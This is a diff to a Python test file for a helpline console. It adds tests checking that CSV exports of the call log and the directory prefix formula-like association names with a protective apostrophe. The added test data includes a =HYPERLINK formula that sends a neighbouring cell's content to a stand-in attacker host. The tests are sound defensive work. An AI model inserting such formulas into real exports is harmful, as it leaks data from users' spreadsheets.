@@ -1,24 +1,30 @@
 """Locked doors of the console: redirects after login, sessions that really end, throttling without a
-lock-out switch, addresses read from trusted proxies only, and HSTS over https."""
+lock-out switch, addresses read from trusted proxies only, HSTS over https, and downloads in which no
+name runs as a spreadsheet formula."""
 
 from __future__ import annotations
 
+import csv
 import dataclasses
+import io
 from collections.abc import Iterator
 
 import pytest
 from flask import Flask
 from flask.testing import FlaskClient
-from sqlalchemy import Engine
+from sqlalchemy import Engine, select
 from sqlalchemy.orm import Session, sessionmaker
 from werkzeug.test import TestResponse
 
+from call_log.record import add_referral, open_manual_contact
 from console.accounts import MAX_FAILURES_PER_ADDRESS, MAX_FAILURES_PER_USER, set_active, set_password
+from directory.models import Association
 from foundation.config import Config
 from foundation.settings import Settings, SettingsError
 from helpline.app import create_app
 from tests.conftest import FakeClock
 from tests.console.conftest import PASSWORD, Browser
+from tests.report_dataset import BAD
 
 COOKIE = "helpline_session"
 # Documentation address ranges (RFC 5737): an attacker, a user, and the reverse proxy in front of both.
@@ -222,3 +228,39 @@ def test_trusted_proxies_setting_refuses_other_values(raw: str) -> None:
     assert str(error.value) == (
         f"HELPLINE_TRUSTED_PROXIES doit être un nombre entier entre 0 et 10 (valeur reçue : « {raw} »)"
     )
+
+
+# A link that sends the neighbouring cell to another site when clicked, once the file is opened.
+EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Aide")'
+
+
+@pytest.fixture
+def evil_referral(sessions: sessionmaker[Session], clock: FakeClock) -> None:
+    """A call put through to, and referred to, an association named like a formula."""
+    with sessions() as session, session.begin():
+        association = session.scalars(select(Association).where(Association.name == BAD)).one()
+        association.name = EVIL
+        call = open_manual_contact(
+            session, channel="phone", started_at=clock(), caller="", by="olivia", now=clock()
+        )
+        call.association = association
+        add_referral(session, call, association, by="olivia", now=clock())
+
+
+@pytest.mark.usefixtures("evil_referral")
+@pytest.mark.parametrize(("query", "delimiter"), [("", ";"), ("?format=donnees", ",")])
+def test_log_export_keeps_a_formula_name_text(as_staff: Browser, query: str, delimiter: str) -> None:
+    """In /log/export.csv, either form, the association's name starts with its protective apostrophe."""
+    body = as_staff.get(f"/log/export.csv{query}").get_data().decode("utf-8-sig")
+    [row] = list(csv.reader(io.StringIO(body), delimiter=delimiter))[1:]
+    assert row[-2:] == ["'" + EVIL, "'" + EVIL]  # the association that took the call, the referral
+
+
+@pytest.mark.usefixtures("evil_referral")
+@pytest.mark.parametrize(("query", "delimiter"), [("", ";"), ("?format=donnees", ",")])
+def test_directory_export_keeps_a_formula_name_text(as_staff: Browser, query: str, delimiter: str) -> None:
+    """In /directory/export.csv, either form, the name starts with its protective apostrophe."""
+    body = as_staff.get(f"/directory/export.csv{query}").get_data().decode("utf-8-sig")
+    names = [row[0] for row in csv.reader(io.StringIO(body), delimiter=delimiter)][1:]
+    assert "'" + EVIL in names
+    assert EVIL not in names
